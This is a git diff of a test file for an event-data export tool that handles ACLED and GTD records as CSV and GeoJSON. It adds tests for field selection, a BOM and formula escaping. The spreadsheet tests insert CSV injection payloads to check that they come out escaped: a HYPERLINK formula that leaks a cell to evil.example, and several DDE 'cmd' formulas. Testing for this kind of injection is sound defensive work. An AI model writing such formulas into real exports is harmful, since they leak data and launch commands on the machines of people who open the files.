@@ -3,6 +3,7 @@ import os from 'node:os'
 import path from 'node:path'
 import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { exportFields } from '../src/db/event-export.js'
 import { loadDemoData } from '../src/demo/load-demo.js'
 import { acled } from '../src/import/acled.js'
 import { gtd } from '../src/import/gtd.js'
@@ -39,7 +40,7 @@ async function exportCsv(args: string[] = []): Promise<Row[]> {
     DATABASE_URL: testDatabaseUrl(),
   })
   expect(code, stderr).toBe(0)
-  return parse(stdout, { columns: true }) as Row[]
+  return parse(stdout, { columns: true, bom: true }) as Row[]
 }
 
 describe('attest export', () => {
@@ -56,15 +57,11 @@ describe('attest export', () => {
       country_code: 'TUN',
       killed_best: '2',
       injured_best: '1',
-      event_types: 'acled:armed_clash Armed clash',
+      event_types: 'ACLED:armed_clash Armed clash',
     })
-    expect(raid?.sources?.split('; ')).toEqual(
-      expect.arrayContaining([
-        'Reuters',
-        'The Defense Post',
-        'Tunisian Ministry of the Interior',
-        '@menastream',
-      ]),
+    // The list starts with @, as a formula would: the cell begins with a single quote.
+    expect(raid?.sources).toBe(
+      "'@menastream; Reuters; The Defense Post; Tunisian Ministry of the Interior",
     )
     // The id leads back to the API.
     const { event } = dataOf(
@@ -83,25 +80,29 @@ describe('attest export', () => {
       byTitle('Armed clash: Military Forces of Tunisia (2011-) and Jund al-Khilafa in Sidi Bouzid'),
     ).toMatchObject({
       date_start: '2019-01-03',
-      date_precision: 'day',
+      date_precision: 'DAY',
       country: 'Tunisia',
       place: 'Sidi Bouzid Ouest',
       latitude: '35.0382',
       longitude: '9.4849',
       killed_best: '2',
       sources: 'Armed Conflict Location & Event Data (ACLED); Mosaique FM; Reuters',
-      actors: 'Military Forces of Tunisia (2011-) (participant); Jund al-Khilafa (participant)',
+      actors: 'Military Forces of Tunisia (2011-) (PARTICIPANT); Jund al-Khilafa (PARTICIPANT)',
+      // The dataset's own id, to check the event against it.
+      dataset_ids: 'acled:TUN1001',
     })
     expect(byTitle('Hostage Taking (Kidnapping) in Ain Draham, Tunisia')).toMatchObject({
       date_start: '2018-12-15',
       killed_best: '1',
       tags: 'extended incident (more than 24 hours)',
-      actors: 'Jund al-Khilafa-Tunisia (perpetrator); Okba Ibn Nafaa Brigade (perpetrator)',
+      // GTD's spellings name groups already known (a shipped spelling; the demo's alias).
+      actors: 'Jund al-Khilafa (PERPETRATOR); Katibat Uqbah Bin Nafi (PERPETRATOR)',
+      dataset_ids: 'gtd:201812150004',
     })
     expect(byTitle('Facility/Infrastructure Attack, Tunisia')).toMatchObject({
       date_start: '2018-01-01',
       date_end: '2018-12-31',
-      date_precision: 'year',
+      date_precision: 'YEAR',
       latitude: '',
     })
   })
@@ -160,6 +161,10 @@ describe('the HTTP downloads', () => {
       expect(latitude).toBe(feature.properties.latitude)
     }
     expect(collection.features.some((feature: any) => feature.geometry === null)).toBe(true)
+    // The datasets' ids are properties as well.
+    expect(collection.features.map((feature: any) => feature.properties.dataset_ids)).toContain(
+      'acled:TUN1001',
+    )
   })
 
   it('serve CSV as an attachment, and refuse a bad filter with 400', async () => {
@@ -177,10 +182,148 @@ describe('the HTTP downloads', () => {
       const bad = await fetch(exportUrl('csv', filter))
       expect(bad.status).toBe(400)
       const body = (await bad.json()) as any
-      expect(body.argument).toBe('filter')
+      expect(body).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'filter' })
       expect(body.error).toMatch(message)
     }
     const notJson = await fetch(`${exportUrl('csv')}?filter=%7Bnope`)
     expect(notJson.status).toBe(400)
   })
+})
+
+describe('exports for spreadsheets', () => {
+  // Titles a spreadsheet would run as formulas if written as they are (OWASP's CSV injection).
+  const formulas = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ]
+  const filter = { search: 'spreadsheet' }
+
+  beforeAll(async () => {
+    await testDb()
+      .insertInto('event')
+      .values(
+        formulas.map((title, index) => ({
+          title,
+          summary: 'spreadsheet probe',
+          date_start: `1950-01-0${index + 1}`,
+          date_end: `1950-01-0${index + 1}`,
+          // West and south of Greenwich: negative numbers, which are numbers and not formulas.
+          latitude: -33.5 - index,
+          longitude: -70.25,
+        })),
+      )
+      .execute()
+  })
+
+  async function download(query: string) {
+    const response = await fetch(`${exportUrl('csv', filter)}&${query}`)
+    expect(response.status).toBe(200)
+    return Buffer.from(await response.arrayBuffer())
+  }
+
+  it('escape every cell that would start a formula, and leave negative numbers as numbers', async () => {
+    const file = await download('')
+    // As a spreadsheet reads the file: the BOM, then cells (quotes are syntax, not content).
+    const cells = parse(file, { bom: true, relax_column_count: false }) as string[][]
+    const [header, ...rows] = cells
+    expect(rows).toHaveLength(formulas.length)
+    for (const row of rows)
+      for (const [index, cell] of row.entries()) {
+        if (/^-\d+(\.\d+)?$/.test(cell)) {
+          expect(['latitude', 'longitude']).toContain(header?.[index])
+          continue
+        }
+        expect(cell, `${header?.[index]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/)
+      }
+    const titles = rows.map((row) => row[header?.indexOf('title') ?? -1])
+    expect(titles).toEqual(formulas.map((title) => `'${title}`))
+    // The numbers are written bare: a spreadsheet reads them as numbers.
+    expect(file.toString('utf8')).toContain(',-33.5,-70.25,')
+  })
+
+  it('begin CSV with a UTF-8 BOM unless asked not to', async () => {
+    expect([...(await download('')).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    expect((await download('bom=false')).toString('utf8')).toMatch(/^id,title,/)
+    const bad = await fetch(`${exportUrl('csv')}?bom=maybe`)
+    expect(bad.status).toBe(400)
+    expect(await bad.json()).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'bom' })
+    const geojson = Buffer.from(await (await fetch(exportUrl('geojson'))).arrayBuffer())
+    expect(geojson.toString('utf8', 0, 1)).toBe('{')
+    const cli = await runCli(['export', '--format', 'csv', '--no-bom'], {
+      DATABASE_URL: testDatabaseUrl(),
+    })
+    expect(cli.stdout).toMatch(/^id,title,/)
+  })
+
+  it('write timestamps in ISO 8601 and enums as the API spells them', async () => {
+    const [row] = parse(await download('fields=id,date_precision,geo_precision,updated_at'), {
+      bom: true,
+      columns: true,
+    }) as Row[]
+    const { node } = dataOf(
+      await api.query(
+        'query ($id: ID!) { node(id: $id) { ... on Event { datePrecision geoPrecision updatedAt } } }',
+        { id: row?.id },
+      ),
+    )
+    expect(row).toEqual({
+      id: row?.id,
+      date_precision: node.datePrecision,
+      geo_precision: node.geoPrecision ?? '',
+      updated_at: node.updatedAt,
+    })
+    expect(row?.updated_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
+    expect(row?.date_precision).toBe('DAY')
+  })
+
+  it('write the fields asked for, in that order, and refuse an unknown one by name', async () => {
+    const fields = 'killed_best,title,id'
+    const csv = (await download(`fields=${fields}&bom=false`)).toString('utf8')
+    expect(csv.split('\n')[0]).toBe(fields)
+    const geojson = (await (
+      await fetch(`${exportUrl('geojson', filter)}&fields=${fields}`)
+    ).json()) as any
+    expect(Object.keys(geojson.features[0].properties)).toEqual(fields.split(','))
+    expect(geojson.features[0].geometry.coordinates).toEqual([-70.25, expect.any(Number)])
+    for (const [asked, message] of [
+      ['title,fatalities', /fields: unknown field "fatalities"; the fields are id, title,/],
+      ['title,,id', /a field name is empty/],
+      ['title,title', /"title" is given twice/],
+    ] as const) {
+      const bad = await fetch(`${exportUrl('csv')}?fields=${encodeURIComponent(asked)}`)
+      expect(bad.status).toBe(400)
+      const body = (await bad.json()) as any
+      expect(body).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'fields' })
+      expect(body.error).toMatch(message)
+    }
+    const cli = await runCli(['export', '--format', 'csv', '--fields', 'title,nope'], {
+      DATABASE_URL: testDatabaseUrl(),
+    })
+    expect(cli.code).toBe(1)
+    expect(cli.stderr).toMatch(/^attest: fields: unknown field "nope"/m)
+    const tunisia = await exportCsv([
+      '--fields',
+      'id,country_code',
+      '--filter',
+      '{"countries":["TUN"]}',
+    ])
+    expect(tunisia.length).toBeGreaterThan(0)
+    for (const row of tunisia) expect(row).toEqual({ id: row.id, country_code: 'TUN' })
+  })
+})
+
+it("docs/data.md's table of columns lists every export column, in order", async () => {
+  const docs = await readFile(path.join(projectRoot, 'docs', 'data.md'), 'utf8')
+  const table = docs.slice(docs.indexOf('| column '), docs.indexOf('**For spreadsheets.**'))
+  const documented = table
+    .split('\n')
+    .slice(2)
+    .flatMap((line) =>
+      [...(line.split('|')[1] ?? '').matchAll(/`(\w+)`/g)].map((match) => match[1]),
+    )
+  expect(documented).toEqual(exportFields)
 })
